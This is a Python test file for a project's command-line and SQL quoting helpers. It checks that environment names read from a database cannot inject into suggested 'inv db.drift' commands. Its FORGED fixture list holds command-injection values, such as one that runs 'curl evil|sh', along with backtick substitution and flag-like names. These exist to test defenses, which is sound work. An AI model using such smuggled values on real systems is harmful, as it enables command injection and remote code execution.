"""The commands that messages offer: what a database or a machine names is quoted, or not part of a command at all."""

import ast
import re
import shlex
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest

from tasks.postgres.quoting import show_identifier, show_literal, show_qualified
from tasks.runner.command_lines import compose_command, describe_strange_name, is_environment_name, quote_words, show_name
from tasks.runner.ledger.expected_schema import UNCOMPARED
from tests.kit.databases import Database
from tests.kit.projects import REPOSITORY
from tests.runner.operating import A, Operator

FORGED = [
    "prod$(id>x);curl evil|sh",
    "prod`id`",
    "a b",
    "-x",
    "--yes",
    "prod\n",
    "prod\u202e",
    "",
    "p" * 100,
    "prod'",
    "a,b",
    "../x",
]
NAMES = ["prod", "my-review", "pr.17", "_x", "größe", "3"]
TEXTS = ["a", "a'b", 'a"b', "a\\b", "a\nb", "a\u202eb", "a\x1b[31m", "$(id)", "größe", "\\'\"", "a;--", "%s{}"]
COMMAND = re.compile(r"\binv (?:db|env|alerts)\.[^\n]*\Z")
COMPOSING = "tasks/runner/command_lines.py"


@pytest.mark.parametrize("name", NAMES)
def test_the_name_of_an_environment_is_part_of_the_command(name: str) -> None:
    assert shlex.split(compose_command("db.drift", env=name)) == ["inv", "db.drift", f"--env={name}"]
    assert describe_strange_name(name) == ""
    assert show_name(name) == name


@pytest.mark.parametrize("name", FORGED)
def test_a_name_that_no_environment_can_have_is_shown_as_data_only(name: str) -> None:
    assert not is_environment_name(name)
    assert compose_command("db.drift", env=name) == ("inv db.drift --env=…" if name else "inv db.drift")
    if name:
        assert describe_strange_name(name) == f"The database names its environment {name!a}, which no environment can be called."
    assert show_name(name).isprintable()


@pytest.mark.parametrize("text", TEXTS)
def test_a_shell_reads_the_quoted_word_as_it_was(text: str) -> None:
    word = quote_words(text)
    assert word.isprintable()
    printed = subprocess.run(["bash", "-c", f"printf %s {word}"], capture_output=True, check=True).stdout
    assert printed.decode() == text


def test_postgresql_reads_the_shown_names_and_literals_as_they_were(database: Database) -> None:
    for text in TEXTS:
        assert show_identifier(text).isprintable()
        assert show_literal(text).isprintable()
        shown = f"SELECT {show_literal(text)} AS {show_identifier(text)} FROM pg_class AS {show_qualified(text)} LIMIT 1"
        with database.connect() as connection:
            cursor = connection.execute(shown.encode())
            assert cursor.description is not None
            assert (cursor.description[0].name, cursor.fetchone()) == (text, (text,))


def test_a_forged_environment_in_the_ledger_is_not_pasted(operator: Operator) -> None:
    operator.write_tables(A)
    operator.migrate(watch_drift=True)
    operator.database.execute("CREATE TABLE foreign_table ()")
    for sum_recorded in (None, UNCOMPARED):
        if sum_recorded:
            operator.database.execute("UPDATE schema_migrations_meta SET value = %s WHERE key = 'schema'", sum_recorded)
        for name in filter(None, FORGED):
            operator.database.execute("DELETE FROM schema_migrations_meta WHERE key = 'environment'")
            operator.database.execute("INSERT INTO schema_migrations_meta (key, value) VALUES ('environment', %s)", name)
            hints = [finding.hint for finding in operator.read_status(watch_drift=True).findings]
            command = "Compare them" if sum_recorded else "Show the differences"
            assert hints == [f"{command}: inv db.drift --env=…\n{describe_strange_name(name)}"]


def test_no_other_message_inserts_a_value_into_a_command() -> None:
    assert list(find_composed(REPOSITORY / "tasks")) == []


def test_the_search_finds_inserted_values(tmp_path: Path) -> None:
    (tmp_path / "a.py").write_text(
        'x = f"Run: inv db.drift --env={env}"\n'
        'y = f"{env}: run inv db.drift"\n'
        'z = "inv db.drift --env=%s" % env, "inv db.drift --env={}".format(env), "inv db.drift --env=" + env\n'
        'w = f"inv db.drift\\n{env}"\n'
    )
    assert [place.rpartition(":")[2] for place in find_composed(tmp_path)] == ["1", "3", "3", "3"]


def find_composed(folder: Path) -> Iterator[str]:
    """Yield the places of texts in which a value is inserted after a command of this project, on the same line."""
    for path in sorted(folder.rglob("*.py")):
        if str(path.relative_to(folder.parent)) == COMPOSING:
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if any(COMMAND.search(text) for text in _list_beginnings(node)):
                yield f"{path.relative_to(folder.parent)}:{node.lineno}"  # type: ignore[attr-defined]


def _list_beginnings(node: ast.AST) -> Iterator[str]:
    """Yield the texts before each value that a text gets."""
    if isinstance(node, ast.JoinedStr):
        before = ""
        for part in node.values:
            if isinstance(part, ast.FormattedValue):
                yield before
            elif isinstance(part, ast.Constant):
                before += str(part.value)
    elif isinstance(node, ast.BinOp) and isinstance(node.op, ast.Add | ast.Mod):
        yield from _text(node.left)
    elif isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr == "format":
        yield from _text(node.func.value)


def _text(node: ast.expr) -> Iterator[str]:
    if isinstance(node, ast.Constant) and isinstance(node.value, str):
        yield re.sub(r"(%s|\{).*", "", node.value, flags=re.DOTALL)
